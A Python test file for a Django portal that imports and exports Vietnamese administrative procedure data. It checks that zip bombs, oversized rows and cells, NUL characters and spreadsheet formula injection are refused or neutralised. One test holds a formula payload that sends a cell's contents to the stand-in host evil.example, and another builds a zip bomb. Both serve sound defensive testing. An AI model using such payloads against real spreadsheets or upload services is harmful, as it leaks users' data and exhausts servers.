"""Hostile or oversized import files end in file/row/column errors in Vietnamese, never a traceback, and write nothing.

Run on SQLite and PostgreSQL: PostgreSQL refuses NUL in text, so an unchecked `\\u0000` ends in a DataError there.
"""

import io
import json
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from portal import tabular
from procedures.exchange import flat
from procedures.exchange.importer import import_file
from procedures.models import ProcedurePage
from procedures.reform.models import DossierStatistics
from procedures.reform.upload import SPECS
from tests.procedures.conftest import national

pytestmark = pytest.mark.django_db


def messages(result):
    return [str(problem) for problem in result.problems]


def test_a_small_zip_holding_a_50_mb_csv_is_refused_in_vietnamese(tree, tmp_path):
    path = tmp_path / "bom.zip"
    archive = zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9)
    with archive:
        for sheet in flat.SHEETS:
            if sheet != "thu_tuc":
                archive.writestr(f"{sheet}.csv", ",".join(flat.SHEETS[sheet]) + "\n")
        with archive.open("thu_tuc.csv", "w", force_zip64=True) as stream:
            stream.write((",".join(flat.PROCEDURE_COLUMNS) + "\n1.000001,").encode())
            for _ in range(50):
                stream.write(b"A" * 1024 * 1024)
    assert path.stat().st_size < 100 * 1024
    with pytest.raises(CommandError, match=r"giải nén ra [\d.]+ byte, quá giới hạn [\d.]+ byte; hãy chia nhỏ tệp"):
        call_command("import_procedures", str(path))
    assert not ProcedurePage.objects.exists()


def test_too_many_rows_and_oversized_cells_are_refused(tree, tmp_path, monkeypatch):
    monkeypatch.setattr(flat, "LIMITS", tabular.Limits(rows=3))
    path = tmp_path / "nhieu.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for sheet, columns in flat.SHEETS.items():
            rows = [[f"1.00000{n}"] + [""] * (len(columns) - 1) for n in range(4)] if sheet == "thu_tuc" else []
            archive.writestr(f"{sheet}.csv", tabular.csv_bytes([columns, *rows]))
    with pytest.raises(CommandError, match=r"thu_tuc\.csv có quá 3 dòng dữ liệu; hãy chia nhỏ tệp"):
        call_command("import_procedures", str(path))
    monkeypatch.setattr(flat, "LIMITS", tabular.Limits())
    with zipfile.ZipFile(path, "w") as archive:
        for sheet, columns in flat.SHEETS.items():
            rows = [["1.000001", "x" * 40_000] + [""] * (len(columns) - 2)] if sheet == "thu_tuc" else []
            archive.writestr(f"{sheet}.csv", tabular.csv_bytes([columns, *rows]))
    with pytest.raises(CommandError, match=r"thu_tuc\.csv, dòng 2, cột 2: ô dài 40\.000 ký tự, quá giới hạn 32\.767"):
        call_command("import_procedures", str(path))


def test_every_problem_of_a_record_is_reported_and_nothing_is_written(tree, write_json):
    record = national("2.000002", TENTTHC="", MUCDODVC="MUCDO4")
    record["CACHTHUCTHUCHIEN"][0]["KENH"] = 9
    record["CACHTHUCTHUCHIEN"][1]["PHILEPHI"][0]["SOTIEN"] = "hai nghìn"
    record["CANCUPHAPLY"][0]["NGAYBANHANH"] = "31/02/2014"
    record["THUTUCLIENQUAN"] = ["9.999999"]
    result = import_file(write_json([national(), record]), tree.procedures)
    assert messages(result) == [
        "tthc.json dòng 2, cột MUCDODVC: chỉ nhận TOANTRINH, MOTPHAN hoặc để trống",
        "tthc.json dòng 2, cột TENTTHC: bắt buộc, đang để trống",
        "tthc.json dòng 2, cột CACHTHUCTHUCHIEN[1].KENH: chỉ nhận 1 (trực tiếp), 2 (trực tuyến), 3 (bưu chính)",
        "tthc.json dòng 2, cột CACHTHUCTHUCHIEN[2].PHILEPHI[1].SOTIEN: không phải số: 'hai nghìn'",
        "tthc.json dòng 2, cột CANCUPHAPLY[1].NGAYBANHANH: ngày không hợp lệ: '31/02/2014' (dùng dd/mm/yyyy)",
        "tthc.json dòng 2, cột THUTUCLIENQUAN: thủ tục liên quan không tồn tại: 9.999999",
    ]
    assert result.refused == 1 and result.written == 0
    assert not ProcedurePage.objects.exists()


def test_every_problem_of_a_flat_record_points_at_its_own_sheet_row_and_column(tree, write_json, tmp_path):
    import_file(write_json([national()]), tree.procedures)
    path = tmp_path / "mau.xlsx"
    call_command("export_procedures", str(path))
    ProcedurePage.objects.all().delete()
    book = load_workbook(path)
    procedures, channels = book["thu_tuc"], book["cach_thuc"]
    procedures.cell(row=2, column=flat.PROCEDURE_COLUMNS.index("ten") + 1, value="")
    procedures.cell(row=2, column=flat.PROCEDURE_COLUMNS.index("muc_do_dvc") + 1, value="muc_4")
    channels.cell(row=3, column=flat.CHANNEL_COLUMNS.index("le_phi") + 1, value="mười nghìn")
    channels.cell(row=3, column=flat.CHANNEL_COLUMNS.index("don_vi_thoi_han") + 1, value="tuần")
    book.save(path)
    assert messages(import_file(path, tree.procedures)) == [
        "mau.xlsx [thu_tuc] dòng 2, cột muc_do_dvc: chỉ nhận toan_trinh, mot_phan hoặc để trống",
        "mau.xlsx [thu_tuc] dòng 2, cột ten: bắt buộc, đang để trống",
        "mau.xlsx [cach_thuc] dòng 3, cột don_vi_thoi_han: đơn vị thời hạn không hợp lệ: 'tuần'",
        "mau.xlsx [cach_thuc] dòng 3, cột le_phi: không phải số: 'mười nghìn'",
    ]
    assert not ProcedurePage.objects.exists()


def test_nul_and_other_unstorable_characters_in_json_are_reported_per_column(tree, tmp_path):
    record = national(TENTTHC="Đăng ký\u0000 khai sinh", MOTA="Mô tả\ud800")
    record["TRINHTUTHUCHIEN"][0]["BUOC"][0]["TENBUOC"] = "Nộp\u0007hồ sơ"
    path = tmp_path / "tthc.json"
    path.write_text(json.dumps([record]), encoding="utf-8")  # \ud800 can only be written as an escape
    result = import_file(path, tree.procedures)
    assert messages(result) == [
        "tthc.json dòng 1, cột TENTTHC: chứa ký tự không lưu được: U+0000",
        "tthc.json dòng 1, cột MOTA: chứa ký tự không lưu được: U+D800",
        "tthc.json dòng 1, cột TRINHTUTHUCHIEN[1].BUOC[1].TENBUOC: chứa ký tự không lưu được: U+0007",
    ]
    assert not ProcedurePage.objects.exists()
    with pytest.raises(CommandError, match="1 dòng không nhập được"):
        call_command("import_procedures", str(path), "--skip-invalid")
    assert not ProcedurePage.objects.exists()


def test_nul_in_a_csv_cell_is_reported_at_its_sheet_row_and_column(tree, write_json, tmp_path):
    import_file(write_json([national()]), tree.procedures)
    path = tmp_path / "mau.zip"
    call_command("export_procedures", str(path))
    ProcedurePage.objects.all().delete()
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["ho_so.csv"] = members["ho_so.csv"].replace("Giấy chứng sinh".encode(), "Giấy\x00 chứng sinh".encode())
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    assert messages(import_file(path, tree.procedures)) == [
        "mau.zip [ho_so] dòng 3, cột ten_giay_to: chứa ký tự không lưu được: U+0000"
    ]
    assert not ProcedurePage.objects.exists()


@pytest.mark.parametrize("suffix", ["xlsx", "zip"])
def test_exported_cells_never_run_as_formulas_and_import_back_unchanged(tree, write_json, tmp_path, suffix):
    hostile = '=HYPERLINK("http://evil.example/?q="&A1,"Xem hướng dẫn")'
    record = national(TENTTHC=hostile, MOTA="@SUM(A1:A9)")
    record["TRINHTUTHUCHIEN"][0]["BUOC"][0]["MOTA"] = "-1+2 tại bộ phận một cửa"
    import_file(write_json([record]), tree.procedures)
    path = tmp_path / f"xuat.{suffix}"
    call_command("export_procedures", str(path))
    if suffix == "xlsx":
        name = load_workbook(path)["thu_tuc"].cell(row=2, column=flat.PROCEDURE_COLUMNS.index("ten") + 1)
        assert name.value == hostile and name.data_type == "s" and name.quotePrefix
    else:
        with zipfile.ZipFile(path) as archive:
            text = archive.read("thu_tuc.csv").decode("utf-8-sig")
        assert "\"'=HYPERLINK(" in text and ",'@SUM(A1:A9)," in text
    result = import_file(path, tree.procedures)
    assert (result.created, result.updated, result.unchanged, result.problems) == (0, 0, 1, [])
    assert ProcedurePage.objects.get().title == hostile


# Reform figures upload


def upload(client, content, name):
    return client.post(reverse("reform_figures_upload"), {"kind": "ho-so", "file": SimpleUploadedFile(name, content)})


def test_figures_upload_reports_unstorable_characters_at_row_and_column(client, tree, users):
    client.force_login(users.reform)
    header = ",".join(SPECS["ho-so"].headers)
    content = f"{header}\nST\x00P,03/2026,{','.join(['1'] * 12)}\n".encode()
    response = upload(client, content, "so-lieu.csv")
    assert response.status_code == 400
    html = response.content.decode()
    assert "<td>2</td><td>co_quan</td><td>Ô chứa ký tự không lưu được: U+0000.</td>" in html
    assert not DossierStatistics.objects.exists()


def test_figures_upload_caps_rows_and_unpacked_size(client, tree, users):
    client.force_login(users.reform)
    header = ",".join(SPECS["ho-so"].headers)
    rows = "".join(f"STP,{n % 12 + 1:02d}/{2000 + n // 12},{','.join(['0'] * 12)}\n" for n in range(5001))
    response = upload(client, f"{header}\n{rows}".encode(), "so-lieu.csv")
    assert response.status_code == 400 and "có quá 5.000 dòng dữ liệu" in response.content.decode()
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (30 * 1024 * 1024))
    response = upload(client, book.getvalue(), "so-lieu.xlsx")
    assert response.status_code == 400 and "quá giới hạn 20.971.520 byte" in response.content.decode()
    assert not DossierStatistics.objects.exists()
